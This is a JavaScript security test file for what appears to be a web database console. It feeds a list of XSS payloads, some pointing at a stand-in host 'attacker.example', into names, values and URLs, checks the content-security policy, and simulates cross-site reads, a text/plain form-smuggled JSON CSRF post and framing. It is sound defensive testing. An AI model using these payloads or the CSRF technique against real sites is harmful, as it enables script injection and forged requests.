// Names, values and errors that would run a script if the page took them for HTML.

import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import { test } from "node:test";
import { datasource, execute, makeTable, open, put, server } from "./browser.mjs";

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<a href=javascript:alert(1)>x</a>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<style>@import 'https://attacker.example/x.css';</style>",
  "<link rel=stylesheet href=https://attacker.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
  "<base href=https://attacker.example/>",
  "<form action=https://attacker.example><button>x</button></form>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<template><script>alert(1)</script></template>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover=alert(1) x="',
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "\u202e<script>alert(1)</script>\u0000",
  "__proto__",
];

test("no payload in a name, a value or an error runs as a script", async () => {
  assert.ok(PAYLOADS.length >= 30);
  const table = await makeTable();
  try {
    const items = PAYLOADS.map((text, index) => ({
      customer: { S: text },
      order: { N: String(index) },
      // A null character is not allowed in names here.
      [text.replaceAll("\u0000", "")]: { S: text },
      nested: { M: { [text]: { L: [{ S: text }] } } },
      set: { SS: [text] },
    }));
    await put(table.name, items);
    const { page, closed } = await open({ path: `#/d/${datasource}/tables/${table.name}` });
    await page.waitForSelector(`[role="grid"][aria-rowcount="${PAYLOADS.length + 1}"]`);
    await page.locator('[role="grid"]').focus();
    for (let index = 0; index < PAYLOADS.length; index += 1) {
      await page.keyboard.press("Enter");
      await page.locator("dialog").getByRole("button", { name: "JSON" }).click();
      await page.keyboard.press("Escape");
      await page.locator("dialog").waitFor({ state: "detached" });
      await page.keyboard.press("ArrowDown");
    }
    // Where people type, where the URL says it, and where errors repeat it.
    for (const text of PAYLOADS) {
      const part = encodeURIComponent(text);
      const filter = encodeURIComponent(JSON.stringify([[text, "=", "S", text]]));
      for (const hash of [
        `#/d/${datasource}/tables/${part}`,
        `#/d/${part}/tables`,
        `#/d/${part}/query`,
        `#/connect?edit=${part}`,
        `#/${part}`,
      ]) {
        await page.evaluate((hash) => {
          location.hash = hash;
        }, hash);
        await page.waitForTimeout(20);
      }
      await page.evaluate((hash) => {
        location.hash = hash;
      }, `#/d/${datasource}/tables/${table.name}?index=${part}&pk=${part}&filter=${filter}`);
      await page.waitForTimeout(30);
    }
    await page.waitForTimeout(300);
    assert.equal(await page.locator("script[src^='http'], iframe, object, embed, base, meta[http-equiv]").count(), 0);
    await closed();
  } finally {
    await table.drop();
  }
});

test("the page cannot be framed, and its policy has no exception", async () => {
  const response = await fetch(`${server}/console/`);
  const policy = response.headers.get("content-security-policy") ?? "";
  for (const directive of [
    "default-src 'none'",
    "script-src 'self'",
    "style-src 'self'",
    "connect-src 'self'",
    "base-uri 'none'",
    "form-action 'none'",
    "frame-ancestors 'none'",
    "require-trusted-types-for 'script'",
  ]) {
    assert.ok(policy.includes(directive), `${directive} is missing in ${policy}`);
  }
  for (const weak of ["unsafe-inline", "unsafe-eval", "*", "data:", "blob:", "http"])
    assert.ok(!policy.includes(weak), `${weak} is in ${policy}`);
  assert.equal(response.headers.get("x-content-type-options"), "nosniff");
});

test("a page of another site in the same browser can neither frame, read nor post", async () => {
  const site = createServer((_, response) => response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><body>"));
  site.listen(0, "127.0.0.1");
  await once(site, "listening");
  const { page: own, closed } = await open();
  try {
    const page = await own.context().newPage();
    await page.goto(`http://127.0.0.1:${site.address().port}/`);
    const create = JSON.stringify({
      TableName: "of_another_site",
      AttributeDefinitions: [{ AttributeName: "id", AttributeType: "S" }],
      KeySchema: [{ AttributeName: "id", KeyType: "HASH" }],
      BillingMode: "PAY_PER_REQUEST",
    });
    const url = `${server}/v1/datasources/${datasource}/actions/CreateTable`;
    const results = await page.evaluate(
      async ({ server, url, create }) => {
        const tried = async (what) => what.then(async (response) => `${response.type} ${await response.text()}`).catch(() => "failed");
        const read = await tried(fetch(`${server}/v1/datasources`));
        const asJson = await tried(fetch(url, { method: "POST", headers: { "content-type": "application/json" }, body: create }));
        // These two need no leave of the server to be sent.
        const unseen = await tried(fetch(url, { method: "POST", mode: "no-cors", headers: { "content-type": "text/plain" }, body: create }));
        const form = document.createElement("form");
        Object.assign(form, { action: url, method: "POST", enctype: "text/plain", target: "posted" });
        const field = document.createElement("input");
        // name=value, which is JSON with one more field.
        Object.assign(field, { name: `${create.slice(0, -1)},"x":"`, value: '"}' });
        const target = document.createElement("iframe");
        target.name = "posted";
        form.append(field);
        document.body.append(form, target);
        const posted = new Promise((resolve) => target.addEventListener("load", resolve, { once: true }));
        form.submit();
        await posted;
        const frame = document.createElement("iframe");
        frame.name = "framed";
        frame.src = `${server}/console/`;
        const loaded = new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
        document.body.append(frame);
        await loaded;
        return { read, asJson, unseen };
      },
      { server, url, create },
    );
    assert.deepEqual([results.read, results.asJson], ["failed", "failed"]);
    assert.ok(["failed", "opaque "].includes(results.unseen), results.unseen);
    const framed = page.frame({ name: "framed" });
    assert.ok(framed.url().startsWith("chrome-error://"), framed.url());
    const { TableNames } = await execute(datasource, "ListTables", {});
    assert.ok(!TableNames.includes("of_another_site"), `${TableNames}`);
    await closed();
  } finally {
    site.close();
    site.closeAllConnections();
  }
});
